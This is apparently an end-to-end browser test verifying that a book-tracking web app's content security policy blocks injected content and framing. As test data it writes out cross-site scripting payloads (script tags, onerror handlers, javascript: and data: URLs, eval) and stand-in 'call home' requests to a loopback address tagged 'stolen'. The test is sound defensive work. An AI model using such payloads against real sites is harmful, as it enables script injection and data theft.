// The content security policy: no page of the app offends it, and what somebody manages to put into
// a page does not run, does not call home, and is in nobody's frame. `pages` are those that the mode
// has, for somebody who may see them.
import assert from 'node:assert/strict';
import { patience, until } from '../chromium.mjs';

// Keeps every violation that the browser reports, from the first byte of a page on.
function watch() {
  globalThis.violations = [];
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
    globalThis.violations.push(`${violatedDirective} ${blockedURI}`);
  });
}

const violations = (page) => page.evaluate(() => globalThis.violations);

export default async function play({ ask, config, stage, step }) {
  const come = async (name, path) => {
    const who = await stage.enter(name, path);
    await who.page.addInitScript(watch);
    await who.reload();
    return who;
  };
  const olga = await come('Olga', await ask('way in'));

  for (const [path, there] of [
    ['/', 'main [data-book-id]'], ['/owner', 'main h1'], ['/operations', '[data-chart="connections"] [data-value]'],
  ]) {
    step(`nothing on ${path} offends`);
    await olga.page.goto(path);
    await olga.page.locator(there).first().waitFor();
    await olga.page.keyboard.press('?');
    await olga.dialog('Keyboard shortcuts').waitFor();
    await olga.page.keyboard.press('Escape');
    if (path !== '/operations') {
      await olga.page.keyboard.press('n');
      await olga.dialog('Add a book').waitFor();
      await olga.page.keyboard.press('Escape');
      await olga.dialog('Add a book').waitFor({ state: 'hidden' });
    }
    for (const theme of ['Light', 'Dark']) {
      await olga.chooseTheme(theme);
    }
    assert.deepEqual(await violations(olga.page), [], path);
  }
  step('nor does the page of the documents');
  await olga.page.goto('/docs');
  await olga.page.locator('h1').first().waitFor();
  assert.deepEqual(await violations(olga.page), []);
  assert.deepEqual(olga.complaints, []);

  step('nor does the page of somebody who is signed out');
  if (config.signIn) {
    const stranger = await (await olga.page.context().browser().newContext()).newPage();
    const complaints = [];
    stranger.on('console', (message) => complaints.push(message.text()));
    await stranger.addInitScript(watch);
    await stranger.goto(new URL('/', olga.page.url()).href);
    await stranger.locator('[data-sign-in="needed"]').waitFor();
    assert.deepEqual(await violations(stranger), []);
    assert.deepEqual(complaints.filter((text) => /Content Security Policy/.test(text)), []);
    await stranger.context().close();
  }

  step('a title that is markup is a title');
  await olga.page.goto('/');
  const hostile = '<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=2</script>';
  assert.equal(await ask('add the hostile book'), hostile);
  await olga.sees(hostile, patience);
  assert.equal(await olga.page.evaluate(() => globalThis.ran), undefined);
  assert.deepEqual(await violations(olga.page), []);

  for (const [what, directive, inject] of [
    ['an inline script', 'script-src', () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = "inline"';
      document.body.append(script);
    }],
    ['a script of a data: address', 'script-src', () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,globalThis.ran="data"';
      document.body.append(script);
    }],
    ['a script of another place', 'script-src', () => {
      const script = document.createElement('script');
      script.src = 'http://127.0.0.1:9/evil.js';
      document.body.append(script);
    }],
    ['a handler in markup', 'script-src', () => {
      const place = document.createElement('div');
      place.innerHTML = '<img src="/nothing.png" onerror="globalThis.ran = 1">';
      document.body.append(place);
    }],
    ['a javascript: link', 'script-src', () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(globalThis.ran = 1)';
      document.body.append(link);
      link.click();
    }],
    ['eval', 'script-src', () => {
      // Later: what DevTools evaluate may use eval themselves.
      setTimeout(() => {
        try {
          (0, eval)('globalThis.ran = 1');
        } catch {
          // it is refused by an error
        }
      });
    }],
    ['a call home', 'connect-src', () => { void fetch('http://127.0.0.1:9/?stolen').catch(() => undefined); }],
    ['a picture that calls home', 'img-src', () => { new Image().src = 'http://127.0.0.1:9/?stolen'; }],
    ['a form that sends elsewhere', 'form-action', () => {
      const form = document.createElement('form');
      form.action = 'http://127.0.0.1:9/';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    }],
    ['another base', 'base-uri', () => {
      const base = document.createElement('base');
      base.href = 'http://127.0.0.1:9/';
      document.head.append(base);
    }],
    ['a plug-in', 'object-src', () => {
      const plugin = document.createElement('object');
      plugin.data = 'http://127.0.0.1:9/x.swf';
      plugin.type = 'application/x-shockwave-flash';
      document.body.append(plugin);
    }],
    ['a frame', 'frame-src', () => {
      const frame = document.createElement('iframe');
      frame.src = 'http://127.0.0.1:9/';
      document.body.append(frame);
    }],
  ]) {
    step(`${what} is refused`);
    await olga.page.evaluate(() => { globalThis.violations.length = 0; });
    await olga.page.evaluate(inject);
    await until(`${what} is reported`, async () => {
      const reported = await violations(olga.page);
      assert.ok(reported.some((one) => one.startsWith(directive)), `reported: ${reported}`);
    });
    assert.equal(await olga.page.evaluate(() => globalThis.ran), undefined, what);
  }

  step('nobody frames a page');
  const framing = await (await olga.page.context().browser().newContext()).newPage();
  for (const path of ['/', '/owner', '/operations', '/docs', '/books', '/openapi.json']) {
    const address = new URL(path, olga.page.url()).href;
    const answered = framing.waitForResponse(address);
    await framing.setContent(`<iframe src="${address}"></iframe>`);
    await answered;
    await until(`${path} is not shown`, async () => {
      const [frame] = framing.mainFrame().childFrames();
      assert.match(frame.url(), /^chrome-error:/);
    });
  }
  await framing.context().close();
}
